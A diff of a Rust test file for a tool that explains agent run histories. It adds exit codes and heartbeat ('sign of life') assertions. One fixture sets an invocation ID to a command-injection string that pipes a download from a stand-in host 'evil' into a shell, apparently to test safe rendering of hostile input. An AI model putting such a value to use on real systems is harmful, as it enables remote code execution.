@@ -5,7 +5,7 @@
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 
-use journal::{Event, Timestamp};
+use journal::{Event, Sign, SignKind, Timestamp};
 use operator::explain;
 use operator::history::{newest, runs};
 use operator::timeline;
@@ -42,13 +42,16 @@ fn rendered(events: &[Event]) -> String {
 }
 
 /// Each history and the exit code that says how it ended. The snapshots have what is said of it.
-const EXIT_CODES: [(&str, u8); 16] = [
+const EXIT_CODES: [(&str, u8); 19] = [
     ("completed", 0),
     ("running", 3),
     ("agent-failed", 1),
     ("agent-panicked", 1),
     ("container-stopped", 1),
     ("container-killed", 1),
+    ("container-came-back", 1),
+    ("completed-after-lost", 1),
+    ("agent-not-started", 1),
     ("entrypoint-failed", 1),
     ("invocation-failed", 1),
     ("invoker-failed", 1),
@@ -148,7 +151,7 @@ fn a_history_that_contradicts_the_rules_is_broken_and_says_how() {
 
 #[test]
 fn what_comes_late_or_from_elsewhere_is_explained_too() {
-    let mut late = history("container-killed");
+    let mut late = history("invoker-crashed");
     let failed = history("agent-failed");
     let mut end = failed[position(&failed, "AGENT_BACKGROUND_TASK_FAILED")].clone();
     end.invocation_id = late[0].invocation_id.clone();
@@ -162,6 +165,29 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
     );
     // A later end is not the cause of an earlier failure.
     assert!(said.contains("Cause: PollAttemptsSpent"), "{said}");
+    // A task whose signs of life were read.
+    let events = history("running");
+    let mut signed = runs(&events);
+    let sign = |kind, seconds: i64| Sign {
+        slot: 0,
+        kind,
+        timestamp: Some(later(&events).plus_micros(-seconds * 1_000_000)),
+        last_progress: Some(later(&events).plus_micros(-2_460_000_000)),
+        reason: None,
+    };
+    signed[0].signs = Some(vec![sign(SignKind::Challenge, 1), sign(SignKind::Beat, 12)]);
+    let alive = "sign of life 12.000 s ago; the agent has said nothing for 41 min 0 s";
+    let said = explain(&signed, later(&events));
+    assert!(
+        said.starts_with(&format!("The session has not ended. Of its task: {alive}.\n")),
+        "{said}"
+    );
+    let summary = timeline::summary(&signed[0], 1, 1, later(&events));
+    assert!(summary.contains(&format!("\nalive      {alive}\n")), "{summary}");
+    signed[0].signs = Some(Vec::new());
+    let said = explain(&signed, later(&events));
+    assert!(said.contains("no sign of life since its start 1 min"), "{said}");
+    assert!(said.contains("; the agent has said nothing yet"), "{said}");
     let mut hostile = history("running");
     for event in &mut hostile {
         event.invocation_id = "arn:x; curl evil | sh #".to_owned();
